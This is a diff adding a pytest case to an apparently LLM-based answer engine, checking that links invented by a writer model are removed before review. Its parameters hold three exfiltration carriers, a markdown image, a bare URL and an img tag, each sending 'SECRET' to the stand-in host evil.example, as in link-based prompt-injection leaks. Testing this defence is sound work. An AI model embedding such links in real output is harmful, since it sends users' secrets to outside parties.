@@ -119,3 +119,14 @@ def test_a_deadline_that_leaves_no_time_for_another_call_is_no_error(engine_with
 def test_arguments_of_the_wrong_kind_are_told(engine_with: MakeEngine, wrong: Any) -> None:
     with pytest.raises(InputError):
         wrong(engine_with())
+
+
+@pytest.mark.parametrize(
+    "carrier",
+    ["![x](https://evil.example/?q=SECRET)", "(see https://evil.example/?q=SECRET)", "<img src=//evil.example/SECRET>"],
+)
+def test_an_address_that_no_document_holds_does_not_leave(engine_with: MakeEngine, carrier: str) -> None:
+    """A writer that was told to carry something away in a link: what it makes up is taken out before the review."""
+    draft = f"Full-time staff have 25 days of paid annual leave a year {carrier}. [1]"
+    answer = engine_with(ScriptedLLM.by_role(writer=draft, reviewer=PASS)).ask(QUESTION)
+    assert "25 days" in answer.text and "evil" not in answer.model_dump_json()
